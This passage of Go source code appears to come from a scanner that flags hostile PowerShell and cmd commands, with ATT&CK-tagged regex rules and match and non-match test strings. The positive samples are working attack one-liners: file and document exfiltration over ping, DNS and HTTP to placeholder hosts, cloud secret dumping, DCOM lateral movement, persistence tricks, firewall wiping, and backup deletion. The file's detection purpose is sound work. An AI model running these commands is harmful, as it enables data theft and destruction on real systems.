		`\.send\([^\n]*(get-content|readallbytes|\$)[^\n]*|get-content[^\n]*-(encoding\s+byte|asbytestream|readcount)`,
		[]string{"$p = New-Object System.Net.NetworkInformation.Ping; foreach ($b in Get-Content -Path C:\\Temp\\x.txt -Encoding Byte -ReadCount 512) { $p.Send('198.51.100.9', 1000, $b) }"},
		[]string{"(New-Object System.Net.NetworkInformation.Ping).Send('build01')"}),
	tr("ps-encoded-from-variable", "obfuscated execution", high, "encodes a script in base64 itself and starts PowerShell on the encoding (ATT&CK T1027)",
		[]string{"tobase64string"},
		`(powershell|pwsh)(\.exe)?['"]?\s[^\n;|]*-e(n|nc|nco|ncod|ncode|ncoded|ncodedc\w*)?\s+\$\w+`,
		`tobase64string`,
		[]string{"$c = 'Get-Process'; $e = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($c)); powershell.exe -NoP -EncodedCommand $e"},
		[]string{"$e = [Convert]::ToBase64String([IO.File]::ReadAllBytes('logo.png')); Set-Content logo.b64 $e", "powershell -File build.ps1 -Name $n"}),
	tr("azure-secrets-dump", "credential access", high, "reads every secret of a key vault or every key of every storage account (ATT&CK T1555.006, T1552)",
		[]string{"get-azkeyvaultsecret", "get-azstorageaccountkey"},
		`get-azkeyvaultsecret\b[^\n]*\|[^\n]*get-azkeyvaultsecret\b[^\n]*-asplaintext|get-azstorageaccount\b[^\n|]*\|\s*get-azstorageaccountkey\b`,
		``,
		[]string{"Get-AzKeyVaultSecret -VaultName kv1 | % { Get-AzKeyVaultSecret -VaultName kv1 -Name $_.Name -AsPlainText }", "Get-AzStorageAccount | Get-AzStorageAccountKey"},
		[]string{"Get-AzKeyVaultSecret -VaultName kv1 -Name build-token -AsPlainText", "Get-AzStorageAccountKey -ResourceGroupName rg -Name appstore"}),
	tr("ps-task-logon-elevated", "persistence", high, "registers a scheduled task that runs at every logon or startup with the highest privileges or as SYSTEM (ATT&CK T1053.005)",
		[]string{"register-scheduledtask"},
		`new-scheduledtasktrigger\s[^\n;]*-at(logon|startup)\b`,
		`-runlevel\s+['"]?highest|-groupid\s+['"]?(builtin\\administrators|administrators|s-1-5-32-544)|-userid\s+['"]?(nt authority\\)?system\b`,
		[]string{"$a = New-ScheduledTaskAction -Execute 'calc.exe'; $t = New-ScheduledTaskTrigger -AtLogOn; $p = New-ScheduledTaskPrincipal -GroupId 'BUILTIN\\Administrators' -RunLevel Highest; Register-ScheduledTask T -Action $a -Trigger $t -Principal $p"},
		[]string{"$a = New-ScheduledTaskAction -Execute 'C:\\Program Files\\Sync\\sync.exe'; $t = New-ScheduledTaskTrigger -AtLogOn; Register-ScheduledTask Sync -Action $a -Trigger $t"}),
	tr("dcom-remote-exec", "lateral movement", high, "starts a program on another computer through a DCOM object (MMC20.Application, ShellWindows, ShellBrowserWindow, Excel; ATT&CK T1021.003)",
		[]string{"gettypefromclsid", "gettypefromprogid"},
		`gettypefrom(clsid|progid)\(\s*(\[guid\])?\s*['"][^'"]+['"]\s*,\s*['"$]`,
		`shellexecute|executeshellcommand|\.navigate|registerxll|ddeinitiate|\.run\(`,
		[]string{"$o = [Activator]::CreateInstance([Type]::GetTypeFromCLSID('C08AFD90-F2A1-11D1-8455-00A0C91F3880', 'srv21')); $o.Document.Application.ShellExecute('cmd.exe', '/c C:\\Windows\\Temp\\u.exe', 'C:\\Windows\\System32', $null, 0)"},
		[]string{"$xl = [Activator]::CreateInstance([Type]::GetTypeFromProgID('Excel.Application')); $xl.Visible = $true"}),
	tr("dns-data-exfil", "exfiltration", high, "sends file contents or encoded data out inside DNS query names (ATT&CK T1048.003, T1071.004)",
		[]string{"resolve-dnsname", "nslookup"},
		`(resolve-dnsname|nslookup)\b[^\n]*(tobase64string|tohexstring|bitconverter\]::tostring|\$\(\s*(get-content|gc|type)\b)`,
		``,
		[]string{"Get-Content C:\\Users\\Public\\o.txt | % { Resolve-DnsName \"$([Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($_))).d.example.net\" }"},
		[]string{"Resolve-DnsName example.org -Type TXT", "nslookup -type=mx example.org"}),
	tr("wmi-subscription-object", "persistence", high, "creates a WMI event filter or consumer object in root\\subscription (ATT&CK T1546.003)",
		[]string{"subscription"},
		`\[wmiclass\]\s*['"][^'"]*root\\+subscription:(__eventfilter|commandlineeventconsumer|activescripteventconsumer|__filtertoconsumerbinding)|root\\+subscription[^\n]*(__eventfilter|commandlineeventconsumer|activescripteventconsumer|__filtertoconsumerbinding)[^\n]*(createinstance|\.put\(|spawninstance_)`,
		``,
		[]string{"$f = ([wmiclass]\"\\\\.\\root\\subscription:__EventFilter\").CreateInstance(); $f.Name = 'u'; $f.Put()"},
		[]string{"Get-WmiObject -Namespace root\\subscription -Class __EventFilter"}),
	tr("firewall-rules-removed", "defense evasion", high, "removes every Windows firewall rule (ATT&CK T1562.004)",
		[]string{"remove-netfirewallrule"},
		`get-netfirewallrule\s*\|\s*remove-netfirewallrule|remove-netfirewallrule\s+-all\b`,
		``,
		[]string{"Get-NetFirewallRule | Remove-NetFirewallRule"},
		[]string{"Remove-NetFirewallRule -DisplayName 'Dev server'", "Get-NetFirewallRule -DisplayName 'Dev*' | Remove-NetFirewallRule"}),
	tr("ps-kill-data-processes", "impact", high, "kills every process whose name matches databases, mail, office or backup programs (what ransomware does before it encrypts, ATT&CK T1489)",
		[]string{"-match"},
		`-match\s+['"]([^'"|]*\|){2,}[^'"]*['"][^\n]*\|\s*(stop-process|spps|kill)\b`,
		`(sql|oracle|veeam|backup|exchange|outlook|excel|winword|mysql|postgres)[^'"]*\|[^'"]*(sql|oracle|veeam|backup|exchange|outlook|excel|winword|mysql|postgres)`,
		[]string{"Get-Process | Where-Object { $_.ProcessName -match 'sql|oracle|veeam|backup' } | Stop-Process -Force"},
		[]string{"Get-Process | Where-Object { $_.ProcessName -match 'node|npm|vite' } | Stop-Process"}),
	tr("dotnet-profiler-env-api", "persistence", high, "sets a .NET profiler DLL through the environment API (every .NET program loads it, ATT&CK T1574.012)",
		[]string{"setenvironmentvariable"},
		`setenvironmentvariable\(\s*['"](cor_profiler|cor_enable_profiling|cor_profiler_path|coreclr_profiler\w*|coreclr_enable_profiling)['"]`,
		``,
		[]string{"[Environment]::SetEnvironmentVariable('COR_PROFILER_PATH','C:\\Users\\Public\\p.dll','Machine')"},
		[]string{"[Environment]::SetEnvironmentVariable('PATH', $env:PATH + ';C:\\Tools', 'User')"}),
	tr("cmd-document-sweep", "collection", high, "copies every document of a type from a whole drive or profile into one folder (staging, ATT&CK T1119, T1074.001)",
		[]string{"for /r", "for  /r"},
		`\bfor\s+/r\s+"?([a-z]:\\?|%(userprofile|homedrive|systemdrive)%\\?|[a-z]:\\users\\?)"?\s+%+\w+\s+in\s+\(\s*"?\*\.(docx?|xlsx?|pdf|pptx?|kdbx|pst|ost|csv|rtf|odt)\b[^)]*\)\s*do\s+@?(copy|xcopy|move|robocopy)\b`,
		``,
		[]string{"for /R C:\\ %f in (*.docx) do copy \"%f\" %TEMP%\\s", "for /r %USERPROFILE% %%a in (*.pdf *.xlsx) do xcopy \"%%a\" C:\\ProgramData\\s\\ /y"},
		[]string{"for /r .\\src %f in (*.cs) do copy %f .\\out", "for /R C:\\Projects\\docs %f in (*.md) do type %f"}),
	tr("dde-execute", "indirect execution", high, "starts a program through Dynamic Data Exchange from an Office object (ATT&CK T1559.002)",
		[]string{"ddeinitiate"},
		`\bddeinitiate\s*\(\s*['"]?(cmd|powershell|pwsh|mshta|rundll32|wscript|cscript|regsvr32)\b`,
		``,
		[]string{"$x = New-Object -ComObject Excel.Application; $x.DDEInitiate('cmd', '/c C:\\Users\\Public\\x.exe')"},
		[]string{"$x = New-Object -ComObject Excel.Application; $x.Workbooks.Open('C:\\r.xlsx')"}),
	tr("backup-file-sweep-ps", "impact", high, "finds backup files (.bak, .vhdx, .vbk, .bkf, .wbcat …) recursively and deletes them (ATT&CK T1490)",
		[]string{".bak", ".vhd", ".vbk", ".bkf", ".wbcat", ".vib", ".tib"},
		`-include\s+[^|\n]*\*\.(bak|vhdx?|vbk|vib|vrb|bkf|wbcat|tib)\b[^|\n]*\|\s*(remove-item|ri|del|rm|erase)\b`,
		``,
		[]string{"Get-ChildItem -Path D:\\ -Include *.bak,*.vhdx -Recurse | Remove-Item -Force"},
		[]string{"Get-ChildItem -Path D:\\Backups -Include *.bak -Recurse | Select-Object FullName"}),
	tr("hosts-redirect-login", "credential access", high, "sends a sign-in, update or bank host to another address in the hosts file (ATT&CK T1565.001, T1557)",
		[]string{"drivers\\etc\\hosts"},
		`\b([1-9]|[1-9]\d|1[01]\d|12[0-6]|12[89]|1[3-9]\d|2[0-4]\d|25[0-5])\.\d{1,3}\.\d{1,3}\.\d{1,3}\s+[a-z0-9.-]*(login|signin|account|auth|sso|okta|microsoftonline|microsoft|windowsupdate|office|outlook|google|github|gitlab|bank|paypal|apple|icloud|amazon|aws)[a-z0-9.-]*\.[a-z]{2,}`,
		`(>>|>|add-content|set-content|out-file|ac\s)[^\n]*drivers\\etc\\hosts|drivers\\etc\\hosts[^\n]*(-value|-append)`,
		[]string{"Add-Content C:\\Windows\\System32\\drivers\\etc\\hosts \"198.51.100.9 login.microsoftonline.com\""},
		[]string{"Add-Content C:\\Windows\\System32\\drivers\\etc\\hosts \"127.0.0.1 dev.local\"", "Add-Content C:\\Windows\\System32\\drivers\\etc\\hosts \"10.0.0.5 build01.corp\""}),
	tr("ps-post-documents", "exfiltration", high, "posts the contents of the user's documents to a web address (ATT&CK T1041, T1567)",
		[]string{"-body", "-infile"},
		`(invoke-restmethod|invoke-webrequest|\birm\b|\biwr\b)[^\n]*-method\s+['"]?(post|put)\b[^\n]*-(body|infile)\s+[('"]*\s*((get-content|gc|cat|type)\s+[^\n)]*)?(\$env:userprofile|\$home|~|[a-z]:\\users\\[^\\\s]+)\\(documents|desktop|downloads|onedrive)\b`,
		``,
		[]string{"Invoke-RestMethod -Uri https://example.net/c -Method Post -Body (Get-Content $env:USERPROFILE\\Documents\\*.txt -Raw)"},
		[]string{"Invoke-RestMethod -Uri https://api.example.org/v1/upload -Method Post -InFile .\\report.json"}),
	tr("clipboard-monitor", "collection", high, "reads the clipboard over and over in a loop and keeps what it finds (ATT&CK T1115)",
		[]string{"get-clipboard", "clipboard]::gettext"},
		`(while\s*\(\s*\$true\s*\)|for\s*\(\s*;\s*;\s*\))\s*\{[^}]*(get-clipboard|clipboard\]::gettext)[^}]*(>>|out-file|add-content|invoke-restmethod|invoke-webrequest)`,
		``,
		[]string{"while ($true) { Get-Clipboard >> $env:TEMP\\c.txt; Start-Sleep 5 }"},
		[]string{"Get-Clipboard | Set-Content .\\snippet.txt"}),
}

// encodedRule flags PowerShell -EncodedCommand: its decoded script is judged
// by the other rules as well.
var encodedRule = &rule{ID: "ps-encoded-command", Class: "obfuscated execution", Sev: medium,
	Msg: "runs a base64-encoded PowerShell command",
	Must: []string{
		"powershell -enc ZwBjAGkAIAAuAA==",
		"powershell.exe -NoP -W Hidden -EncodedCommand ZwBjAGkA",
	},
	MustNot: []string{"powershell -File build.ps1", "pwsh -Command Get-ChildItem"},
}

// hiddenWindow reports whether a PowerShell command line hides its window
// or skips the user's profile: the usual dress of a dropped payload.
var hiddenWindowRe = regexp.MustCompile(`(?i)\s[-/]w(indowstyle)?\s+(h|hidden|1)\b`)

func isEncodedHidden(s string) bool {
	return hiddenWindowRe.MatchString(s) || strings.Contains(strings.ToLower(s), "-noni") && strings.Contains(strings.ToLower(s), "-nop")
}

// textKeywords finds, in one pass over a text, the text rules one of whose
// keywords it holds: with some fifty rules, asking each rule for each of
// its keywords cost more than the rules' patterns.
var textKeywords = func() *kwIndex {
	k := &kwIndex{}
	for i, r := range textRules {
		for _, w := range r.keywords {
			k.add(w, i)
		}
	}
	return k
}()

type kwEntry struct {
	s     string
	rules []int
}

type kwIndex struct {
	by [256][]*kwEntry
	// second holds, per first byte, the bytes that follow it in some
	// keyword (all of them for a keyword of one byte): most positions of
	// a text are passed over on two table reads.
	second [256][4]uint64
}

func (k *kwIndex) add(w string, rule int) {
	if w == "" {
		return
	}
	if len(w) == 1 {
		k.second[w[0]] = [4]uint64{^uint64(0), ^uint64(0), ^uint64(0), ^uint64(0)}
	} else {
		k.second[w[0]][w[1]>>6] |= 1 << (w[1] & 63)
	}
	for _, e := range k.by[w[0]] {
		if e.s == w {
			e.rules = append(e.rules, rule)
			return
		}
	}
	k.by[w[0]] = append(k.by[w[0]], &kwEntry{s: w, rules: []int{rule}})
}

// candidates marks in out (len(textRules)) the rules whose keywords occur
// in s, and reports whether any does.
func (k *kwIndex) candidates(s string, out []bool) bool {
	any := false
	for i := 0; i < len(s); i++ {
		if i+1 < len(s) {
			if c := s[i+1]; k.second[s[i]][c>>6]&(1<<(c&63)) == 0 {
				continue
			}
		}
		for _, e := range k.by[s[i]] {
			if strings.HasPrefix(s[i:], e.s) {
				for _, r := range e.rules {
					out[r] = true
				}
				any = true
			}
		}
	}
	return any
}
